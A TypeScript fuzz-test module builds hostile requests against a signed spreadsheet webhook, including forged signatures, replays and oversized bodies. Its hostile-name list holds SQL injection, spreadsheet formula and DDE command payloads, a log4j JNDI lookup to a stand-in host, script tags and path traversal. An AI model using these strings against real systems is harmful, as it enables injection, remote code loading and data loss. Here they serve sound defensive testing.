/**
 * fast-check arbitraries of requests to sheetWebhook (issue 18, Build 7), each with what the
 * webhook must answer. Every signed event names a tab no link names (or is a replay of an event
 * the webhook took already), so none of them may publish or change state: a signed event that
 * survives a corruption is still only ignored.
 */
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { sign, spreadsheetSecret } from '../../functions/src/handlers/sheet-webhook/signature.ts';
import { signedHeaders } from './signed-request.ts';

export const MAX_BODY_BYTES = 10 * 1024 * 1024;

export interface FuzzRequest {
  kind: 'garbage' | 'tampered' | 'malformed' | 'ignored' | 'wrong-type' | 'replay' | 'huge';
  method: string;
  headers: Record<string, string>;
  body: Buffer;
  /** Sent without Content-Length (chunked). */
  chunked?: boolean;
}

/** An event the webhook took, as the script sent it. */
export interface Sent {
  body: Buffer;
  headers: Record<string, string>;
}

const SHORT_HOSTILE = [
  "'",
  '"',
  '`',
  "'; DROP TABLE orders; --",
  '" OR 1=1 --',
  "Robert'); DELETE FROM sheetsync.outbox; --",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(A1,"//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\u0000',
  '\u202eOrders',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j lookup, as text
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%s%s%n',
  '\ud800',
  '🙂👩‍👩‍👧',
  '_sheetsync_id',
  ' Orders',
  'orders',
  'Orders!A1',
  "'Orders'",
];
/** The same, 50,000 characters long (a sheet cell's limit, and far over a tab title's 100). */
const LONG_HOSTILE = SHORT_HOSTILE.slice(0, 8).map((s) =>
  s.repeat(Math.ceil(50_000 / s.length)).slice(0, 50_000),
);

/** Any code point, lone surrogates too (fc's own 'binary' unit builds a 1.1M-entry map first). */
const anyCodePoint = fc.integer({ min: 0, max: 0x10ffff }).map((c) => String.fromCodePoint(c));

export function hostileName(linkedTab: string): fc.Arbitrary<string> {
  return fc
    .oneof(
      { arbitrary: fc.constantFrom(...SHORT_HOSTILE), weight: 120 },
      { arbitrary: fc.string({ maxLength: 30 }), weight: 60 },
      { arbitrary: fc.string({ unit: anyCodePoint, maxLength: 12 }), weight: 40 },
      // Rare: each costs the fuzz a 50 kB body to sign and parse.
      { arbitrary: fc.constantFrom(...LONG_HOSTILE), weight: 1 },
    )
    .filter((name) => name !== linkedTab && name.length > 0);
}

function cell(names: fc.Arbitrary<string>) {
  return fc.oneof(fc.string({ maxLength: 20 }), fc.double(), fc.boolean(), fc.constant(null), names);
}

/** A well-formed event of `spreadsheetId` for a tab named by `tab`. */
export function event(spreadsheetId: string, tab: fc.Arbitrary<string>, names: fc.Arbitrary<string>) {
  const common = {
    v: fc.constant(1),
    eventId: fc.uuid(),
    spreadsheetId: fc.constant(spreadsheetId),
    sheet: tab,
    // Not 0, the linked tab's sheetId (takenEvent): an event of that tab under any title is the
    // linked tab renamed (issue 19), which the webhook takes.
    sheetId: fc.integer({ min: 1 }),
    headers: fc.array(names, { maxLength: 4 }),
    time: fc.integer({ min: 0, max: 2 ** 42 }),
  };
  const row = fc.record({
    rowId: fc.uuid(),
    row: fc.integer({ min: 2, max: 10_000_000 }),
    isNew: fc.boolean(),
    cells: fc.dictionary(names, cell(names), { maxKeys: 4 }),
  });
  return fc.oneof(
    {
      arbitrary: fc.record({
        ...common,
        kind: fc.constant('edit'),
        rows: fc.array(row, { minLength: 1, maxLength: 3 }),
      }),
      weight: 4,
    },
    {
      arbitrary: fc.record({
        ...common,
        kind: fc.constant('structure'),
        changeType: names,
        ids: fc.array(fc.uuid(), { maxLength: 3 }),
      }),
      weight: 1,
    },
    { arbitrary: fc.record({ ...common, kind: fc.constant('layout'), changeType: names }), weight: 1 },
    { arbitrary: fc.record({ ...common, kind: fc.constant('headers') }), weight: 1 },
  );
}

/** Ways to spoil an event: a field removed, replaced by any JSON, or one added. */
function corrupt(names: fc.Arbitrary<string>) {
  return fc.tuple(
    fc.constantFrom('drop', 'replace', 'add', 'truncate', 'wrap'),
    fc.constantFrom('v', 'kind', 'eventId', 'spreadsheetId', 'sheet', 'sheetId', 'headers', 'time', 'rows'),
    fc.jsonValue({ maxDepth: 2 }),
    names,
  );
}

export interface FuzzSetup {
  master: string;
  spreadsheetId: string;
  linkedTab: string;
  /** Events the webhook took before the fuzz: their replays must publish nothing. */
  taken: readonly Sent[];
}

export function fuzzRequest(setup: FuzzSetup): fc.Arbitrary<FuzzRequest> {
  const { master, spreadsheetId } = setup;
  const names = hostileName(setup.linkedTab);
  const anEvent = event(spreadsheetId, names, names);
  const json = (value: unknown) => Buffer.from(JSON.stringify(value));
  // Derived once: the script signs with it (signature.ts), and deriving costs two HMACs.
  const secret = spreadsheetSecret(master, spreadsheetId);
  const signed = (body: Buffer, extra: Record<string, string> = {}): Record<string, string> => {
    const timestamp = String(Date.now());
    return {
      'content-type': 'application/json',
      'x-sheetsync-spreadsheet': spreadsheetId,
      'x-sheetsync-timestamp': timestamp,
      'x-sheetsync-signature': sign(secret, timestamp, body),
      ...extra,
    };
  };
  const printable = fc.string({
    unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)),
    maxLength: 300,
  });

  const garbage = fc
    .record({
      method: fc.constantFrom('POST', 'POST', 'POST', 'GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'),
      type: fc.constantFrom(
        undefined,
        'application/json',
        'text/plain',
        'application/json; charset=latin1',
        'multipart/form-data; boundary=x',
        'application/x-www-form-urlencoded',
        'application/json; charset=utf-8',
      ),
      body: fc.oneof(
        fc.uint8Array({ maxLength: 2_000 }).map((b) => Buffer.from(b)),
        fc.json().map((s) => Buffer.from(s)),
        anEvent.map(json),
      ),
      spreadsheet: fc.option(fc.oneof(printable, fc.constant(spreadsheetId))),
      timestamp: fc.option(fc.oneof(printable, fc.constant(String(Date.now())))),
      signature: fc.option(fc.oneof(printable, fc.stringMatching(/^sha256=[0-9a-f]{64}$/))),
    })
    .map(
      ({ method, type, body, spreadsheet, timestamp, signature }): FuzzRequest => ({
        kind: 'garbage',
        method,
        body,
        headers: {
          ...(type ? { 'content-type': type } : {}),
          ...(spreadsheet !== null ? { 'x-sheetsync-spreadsheet': spreadsheet } : {}),
          ...(timestamp !== null ? { 'x-sheetsync-timestamp': timestamp } : {}),
          ...(signature !== null ? { 'x-sheetsync-signature': signature } : {}),
        },
      }),
    );

  const tampered = fc
    .tuple(
      anEvent,
      fc.constantFrom(
        'body',
        'signature',
        'timestamp',
        'stale',
        'future',
        'other-spreadsheet',
        'other-secret',
      ),
      fc.nat(),
    )
    .map(([value, how, n]): FuzzRequest => {
      const body = json(value);
      const headers = signed(body);
      const ts = Number(headers['x-sheetsync-timestamp']);
      if (how === 'body') body[n % body.length] = body[n % body.length]! ^ (1 + (n % 255));
      if (how === 'signature') {
        const at = 7 + (n % 64);
        const old = headers['x-sheetsync-signature']!;
        headers['x-sheetsync-signature'] =
          old.slice(0, at) + (old[at] === '0' ? '1' : '0') + old.slice(at + 1);
      }
      if (how === 'timestamp') headers['x-sheetsync-timestamp'] = String(ts + 1 + (n % 1000));
      if (how === 'stale' || how === 'future') {
        // Far enough out that the time until it is sent cannot bring it back within 5 minutes.
        const skew = (5 * 60_000 + 1 + n) * (how === 'stale' ? -1 : 1) + (how === 'future' ? 60_000 : 0);
        const when = String(Math.max(0, ts + skew));
        headers['x-sheetsync-timestamp'] = when;
        headers['x-sheetsync-signature'] = sign(secret, when, body);
      }
      // Signed by another spreadsheet's script: for the one the body names, it is a forgery.
      if (how === 'other-spreadsheet')
        Object.assign(headers, signedHeaders(master, `${spreadsheetId}-${n % 7}`, body));
      if (how === 'other-secret')
        Object.assign(headers, signedHeaders(`${master}-${n % 7}`, spreadsheetId, body));
      return { kind: 'tampered', method: 'POST', headers, body };
    });

  const malformed = fc
    .oneof(
      {
        arbitrary: fc
          .tuple(anEvent, corrupt(names))
          // A sheetId replaced by 0, the linked tab's, makes a well-formed event of that tab.
          .filter(
            ([, [how, key, replacement]]) => !(how === 'replace' && key === 'sheetId' && replacement === 0),
          )
          .map(([value, change]) => spoil(value as Record<string, unknown>, change)),
        weight: 4,
      },
      { arbitrary: fc.jsonValue({ maxDepth: 3 }).map(json), weight: 1 },
      { arbitrary: fc.uint8Array({ maxLength: 500 }).map((b) => Buffer.from(b)), weight: 1 },
    )
    .map((body): FuzzRequest => ({ kind: 'malformed', method: 'POST', headers: signed(body), body }));

  const ignored = anEvent.map((value): FuzzRequest => {
    const body = json(value);
    return { kind: 'ignored', method: 'POST', headers: signed(body), body };
  });

  const wrongType = fc
    .tuple(
      anEvent,
      fc.constantFrom(
        'text/plain',
        'application/json; charset=latin1',
        'application/x-www-form-urlencoded',
        'text/json',
        '',
      ),
      fc.boolean(),
    )
    .map(([value, type, gzip]): FuzzRequest => {
      const body = json(value);
      const headers = signed(body, { 'content-type': type });
      if (gzip) Object.assign(headers, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
      return { kind: 'wrong-type', method: 'POST', headers, body };
    });

  const replay = fc.tuple(fc.nat(setup.taken.length - 1), fc.boolean()).map(([i, fresh]): FuzzRequest => {
    const { body, headers } = setup.taken[i]!;
    // The script's retry signs again; a captured request is sent as it was.
    return { kind: 'replay', method: 'POST', body, headers: fresh ? signed(body) : headers };
  });

  const huge = fc.tuple(fc.nat(1_000), fc.boolean()).map(([extra, chunked]): FuzzRequest => {
    const body = HUGE.subarray(0, MAX_BODY_BYTES + 1 + extra);
    return {
      kind: 'huge',
      method: 'POST',
      chunked,
      body,
      headers: {
        'content-type': 'application/json',
        ...signedHeaders(master, spreadsheetId, 'not the body'),
      },
    };
  });

  return fc.oneof(
    { arbitrary: garbage, weight: 300 },
    { arbitrary: tampered, weight: 250 },
    { arbitrary: malformed, weight: 250 },
    { arbitrary: ignored, weight: 100 },
    { arbitrary: wrongType, weight: 80 },
    { arbitrary: replay, weight: 3 },
    { arbitrary: huge, weight: 1 },
  );
}

const HUGE = Buffer.alloc(MAX_BODY_BYTES + 1_001, '{');

function spoil(
  value: Record<string, unknown>,
  [how, key, replacement, name]: [string, string, unknown, string],
): Buffer {
  const copy: Record<string, unknown> = { ...value };
  if (how === 'drop') delete copy[key];
  if (how === 'replace') copy[key] = replacement;
  if (how === 'add') copy[name] = replacement;
  if (how === 'wrap') return Buffer.from(JSON.stringify([copy]));
  const text = JSON.stringify(copy);
  return Buffer.from(
    how === 'truncate' ? text.slice(0, Math.max(0, text.length - 1 - (name.length % text.length))) : text,
  );
}

/** A new event on the linked tab, signed: one the webhook takes and publishes. */
export function takenEvent(setup: Omit<FuzzSetup, 'taken'>, cells: Record<string, unknown>): Sent {
  const body = Buffer.from(
    JSON.stringify({
      v: 1,
      kind: 'edit',
      eventId: randomUUID(),
      spreadsheetId: setup.spreadsheetId,
      sheet: setup.linkedTab,
      sheetId: 0,
      headers: Object.keys(cells),
      time: Date.now(),
      rows: [{ rowId: randomUUID(), row: 2, isNew: false, cells }],
    }),
  );
  return {
    body,
    headers: {
      'content-type': 'application/json',
      ...signedHeaders(setup.master, setup.spreadsheetId, body),
    },
  };
}
